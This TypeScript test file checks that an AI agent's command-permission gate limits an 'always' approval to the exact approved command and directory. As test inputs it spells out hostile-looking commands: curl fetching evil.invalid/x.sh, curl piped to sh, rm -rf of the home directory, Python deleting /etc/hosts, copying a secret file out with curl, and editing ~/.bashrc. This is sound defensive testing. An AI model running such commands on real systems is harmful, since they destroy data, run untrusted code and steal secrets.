// Invariant: an `always` answer (and the rule the gate suggests) covers exactly the command a human approved — its words as written, in the directory it ran in — so no later, wider command (another path, other code, another URL, another directory, more arguments from xargs) ever runs unasked, with the sandbox off or when leaving it.
import 'reflect-metadata';
import { backgroundPlugin } from '@conch/background';
import { cliPlugin } from '@conch/cli';
import { PluginRegistry, TOKENS, type ApprovalRequest, type ToolResult } from '@conch/core';
import { findBwrap, findCookiePids, pidAlive, type ProcessManager } from '@conch/process';
import { loadShellParser, type ShellParser } from '@conch/shell-syntax';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { permissionConfigSchema, type PermissionConfigInput } from './config.js';
import { PermissionEngine } from './gate.js';
import { permissionPlugin } from './plugin.js';

let parser: ShellParser;
let ws: string;
beforeAll(async () => {
  parser = await loadShellParser();
  ws = realpathSync(mkdtempSync(join(tmpdir(), 'conch-narrow-')));
  mkdirSync(join(ws, 'sub'));
});
afterAll(() => rmSync(ws, { recursive: true, force: true }));

function engine(config: PermissionConfigInput = {}) {
  return new PermissionEngine({
    parser,
    config: permissionConfigSchema.parse({ sandbox: 'off', ...config }),
    cwd: ws,
    home: '/home/narrow-test',
  });
}

const cmd = (command: string, cwd = ws) => ({
  kind: 'command' as const,
  tool: 'cli_based_tool',
  command,
  cwd,
});

/** Approves `first` with `always`, then returns which of `later` were asked again (and what was suggested). */
async function afterAlways(first: string, later: string[]) {
  const asked: ApprovalRequest[] = [];
  let answer: 'always' | 'deny' = 'always';
  const e = engine({
    approve: async (request) => {
      asked.push(request);
      return answer;
    },
  });
  expect(await e.check(cmd(first), { callId: 'first' })).toMatchObject({
    outcome: 'allow',
    askedHuman: true,
  });
  const suggested = asked[0]!.suggestedRule;
  answer = 'deny';
  const results: Record<string, string> = {};
  for (const [i, command] of later.entries()) {
    const before = asked.length;
    const d = await e.check(cmd(command), { callId: `later-${i}` });
    results[command] = asked.length > before ? 'asked' : d.outcome;
  }
  return { suggested, results, sessionRules: e.sessionRules(), engine: e };
}

describe('suggested rules are the exact command', () => {
  it.each([
    ['rm -rf build dist cache', 'rm -rf build dist cache'],
    ["python3 -c 'import os; print(1)'", "python3 -c 'import os; print(1)'"],
    ['curl https://example.invalid/a -o a', 'curl https://example.invalid/a -o a'],
    ['sed -i s/a/b/ src/x.c', 'sed -i s/a/b/ src/x.c'],
    ['npm run test -- --watch', 'npm run test -- --watch'],
    ['git commit -m "fix the build"', "git commit -m 'fix the build'"],
    ['node scripts/build.js --out dist', 'node scripts/build.js --out dist'],
    ['timeout 60 make -j8 all', 'timeout 60 make -j8 all'],
  ])('%j suggests %j', (command, rule) => {
    const part = engine()
      .evaluate(command)
      .parts.find((p) => p.verdict === 'ask');
    expect(part?.suggestedRule).toBe(rule);
    expect(part?.suggestedRule).not.toMatch(/\*/);
  });

  it.each([['echo "$x" > out'], ['rm -rf "$dir"'], ["echo '*' > out"], ['bash -c "$(cat x)"']])(
    'suggests no rule when none in the prefix syntax says exactly %j',
    (command) => {
      const a = engine().evaluate(command);
      expect(a.verdict).toBe('ask');
      expect(a.parts.filter((p) => p.verdict === 'ask').every((p) => p.suggestedRule === undefined)).toBe(
        true,
      );
    },
  );
});

describe('an always answer never lets a wider command through (sandbox off)', () => {
  it.each([
    [
      'rm -rf build dist cache',
      [
        'rm -rf ~/important',
        'rm -rf build dist cache ~',
        'rm -rf build',
        'rm -rf /tmp/x',
        'rm -rf build dist',
      ],
    ],
    [
      "python3 -c 'print(1)'",
      [
        'python3 -c \'import os; os.remove("/etc/hosts")\'',
        "python3 -c 'print(1)' extra",
        'python3 -c print',
        'python3 evil.py',
      ],
    ],
    [
      'curl https://example.invalid/a -o a',
      [
        'curl https://example.invalid/b -o a',
        'curl https://evil.invalid/x.sh -o run.sh',
        'curl https://example.invalid/a -o a -K config',
        'curl https://example.invalid/a -o ../a',
      ],
    ],
    [
      'sed -i s/a/b/ src/x.c',
      [
        'sed -i s/a/b/ ../other/x.c',
        'sed -i s/a/b/ src/y.c',
        'sed -i s/a/e/ src/x.c',
        'sed -i -e w/tmp/x src/x.c',
      ],
    ],
    ['npm run test', ['npm run test:deploy', 'npm run test --script-shell=/tmp/evil', 'npm run testx']],
    [
      'git commit -m "fix the build"',
      ['git commit -m fix the build', 'git commit -m "fix the build" --amend'],
    ],
  ])('after approving %j', async (first, later) => {
    const { results, suggested } = await afterAlways(first, later);
    expect(suggested).not.toMatch(/\*/);
    for (const command of later) expect(results[command], command).not.toBe('allow');
  });

  it('the approved command itself runs again without asking', async () => {
    const { results, sessionRules } = await afterAlways('rm -rf build dist cache', [
      'rm -rf build dist cache',
    ]);
    expect(results['rm -rf build dist cache']).toBe('allow');
    expect(sessionRules).toEqual(['rm -rf build dist cache']);
  });

  it.each([
    'cd sub && rm -rf build',
    'cd / && rm -rf build',
    'env -C /tmp rm -rf build',
    'echo ~ | xargs rm -rf build',
    'find / -maxdepth 1 -execdir rm -rf build \\;',
  ])('the same words somewhere else are asked again: %j', async (command) => {
    const { results } = await afterAlways('rm -rf build', [command]);
    expect(results[command], command).toBe('asked');
  });

  it('a rule approved in one directory does not hold in another', async () => {
    const asked: string[] = [];
    const e = engine({
      approve: async (r) => (asked.push(r.display), asked.length === 1 ? 'always' : 'deny'),
    });
    expect(await e.check(cmd('make clean'), { callId: '1' })).toMatchObject({ outcome: 'allow' });
    expect(await e.check(cmd('make clean'), { callId: '2' })).toMatchObject({ outcome: 'allow' });
    expect(await e.check(cmd('make clean', join(ws, 'sub')), { callId: '3' })).toMatchObject({
      outcome: 'deny',
      askedHuman: true,
    });
    expect(asked).toEqual(['make clean', 'make clean']);
  });
});

const realHome = process.env.HOME;
const registries: PluginRegistry[] = [];
let dir: string;
let home: string;

beforeEach(() => {
  dir = realpathSync(mkdtempSync(join(tmpdir(), 'conch-narrow-e2e-')));
  home = realpathSync(mkdtempSync(join(tmpdir(), 'conch-narrow-home-')));
  process.env.HOME = home;
});
afterEach(async () => {
  for (const registry of registries.splice(0)) {
    const prefix = registry.resolveOptional<ProcessManager>(TOKENS.ProcessManager)?.cookiePrefix;
    await registry.dispose();
    if (prefix) expect(findCookiePids({ prefix }).filter((pid) => pidAlive(pid))).toEqual([]);
  }
  rmSync(dir, { recursive: true, force: true });
  rmSync(home, { recursive: true, force: true });
  process.env.HOME = realHome;
});

/** A registry whose approver answers `always` to the first question and `deny` to every later one. */
function setup(permission: Record<string, unknown>) {
  const registry = new PluginRegistry({ cwd: dir, plugins: [permissionPlugin, cliPlugin, backgroundPlugin] });
  registries.push(registry);
  const asked: ApprovalRequest[] = [];
  registry.exposeSync('permission', {
    ...permission,
    approve: async (request: ApprovalRequest) => {
      asked.push(request);
      return asked.length === 1 ? 'always' : 'deny';
    },
  });
  registry.exposeSync('cli', {});
  const run = async (args: Record<string, unknown>) =>
    (await registry.execute('cli_based_tool', args)) as ToolResult & Record<string, any>;
  return { run, asked };
}

describe('through cli_based_tool, sandbox off: the wider command never runs', () => {
  it('rm -rf build dist cache approved always; rm -rf ~/important is asked and refused', async () => {
    for (const d of ['build', 'dist', 'cache']) mkdirSync(join(dir, d));
    mkdirSync(join(home, 'important'));
    writeFileSync(join(home, 'important', 'marker'), 'keep');
    const { run, asked } = setup({ sandbox: 'off' });
    expect(await run({ command: 'rm -rf build dist cache' })).toMatchObject({ returncode: 0 });
    expect(existsSync(join(dir, 'build'))).toBe(false);
    for (const command of [
      'rm -rf ~/important',
      `rm -rf ${home}/important`,
      'rm -rf build dist cache ~/important',
    ])
      expect(await run({ command }), command).toMatchObject({ permission_denied: true });
    expect(readFileSync(join(home, 'important', 'marker'), 'utf8')).toBe('keep');
    expect(asked).toHaveLength(4);
  });

  it('python3 -c approved always; other code is asked and refused', async () => {
    writeFileSync(join(home, 'marker'), 'keep');
    const { run, asked } = setup({ sandbox: 'off' });
    expect(await run({ command: `python3 -c "open('made', 'w')"` })).toMatchObject({ returncode: 0 });
    expect(existsSync(join(dir, 'made'))).toBe(true);
    const remove = `python3 -c "import os; os.remove('${home}/marker')"`;
    expect(await run({ command: remove })).toMatchObject({ permission_denied: true });
    expect(existsSync(join(home, 'marker'))).toBe(true);
    expect(asked.map((a) => a.display)).toEqual([`python3 -c "open('made', 'w')"`, remove]);
  });

  it('curl of one URL approved always; another URL, or curl into a shell, does not run', async () => {
    writeFileSync(join(dir, 'a.txt'), 'a');
    writeFileSync(join(home, 'secret'), 'secret');
    const { run } = setup({ sandbox: 'off' });
    expect(await run({ command: `curl -s file://${dir}/a.txt -o got` })).toMatchObject({ returncode: 0 });
    expect(readFileSync(join(dir, 'got'), 'utf8')).toBe('a');
    expect(await run({ command: `curl -s file://${home}/secret -o stolen` })).toMatchObject({
      permission_denied: true,
    });
    expect(await run({ command: `curl -s file://${dir}/a.txt | sh` })).toMatchObject({
      permission_denied: true,
      rule: 'safety:downloadToInterpreter',
    });
    expect(existsSync(join(dir, 'stolen'))).toBe(false);
  });

  it('sed -i of one file approved always; the same edit of another file does not run', async () => {
    mkdirSync(join(dir, 'src'));
    writeFileSync(join(dir, 'src', 'x.c'), 'a');
    writeFileSync(join(dir, 'src', 'y.c'), 'a');
    writeFileSync(join(home, '.bashrc'), 'a');
    const { run } = setup({ sandbox: 'off' });
    expect(await run({ command: 'sed -i s/a/b/ src/x.c' })).toMatchObject({ returncode: 0 });
    expect(readFileSync(join(dir, 'src', 'x.c'), 'utf8')).toBe('b');
    expect(await run({ command: 'sed -i s/a/b/ src/y.c' })).toMatchObject({ permission_denied: true });
    expect(await run({ command: 'sed -i s/a/b/ ~/.bashrc' })).toMatchObject({
      permission_denied: true,
      rule: 'safety:protectedPaths',
    });
    expect(readFileSync(join(dir, 'src', 'y.c'), 'utf8')).toBe('a');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('a');
  });
});

describe.runIf(findBwrap() || process.env.CI)('through cli_based_tool, leaving the sandbox', () => {
  it('an escalation approved always holds for that exact line only', async () => {
    const outside = realpathSync(mkdtempSync(join(home, 'outside-')));
    const { run, asked } = setup({});
    const first = `touch ${outside}/a`;
    expect(await run({ command: first, sandbox: false, justification: 'build output' })).toMatchObject({
      returncode: 0,
    });
    expect(asked[0]!.suggestedRule).toBe(first);
    // The same line again runs outside without a question.
    rmSync(join(outside, 'a'));
    expect(await run({ command: first, sandbox: false, justification: 'again' })).toMatchObject({
      returncode: 0,
    });
    expect(existsSync(join(outside, 'a'))).toBe(true);
    expect(asked).toHaveLength(1);
    // Anything wider is asked (and refused here).
    for (const command of [`touch ${outside}/b`, `${first} ${outside}/c`, `${first} && touch ${outside}/d`]) {
      expect(await run({ command, sandbox: false, justification: 'wider' }), command).toMatchObject({
        permission_denied: true,
      });
    }
    expect(asked).toHaveLength(4);
    for (const f of ['b', 'c', 'd']) expect(existsSync(join(outside, f))).toBe(false);
  });
});
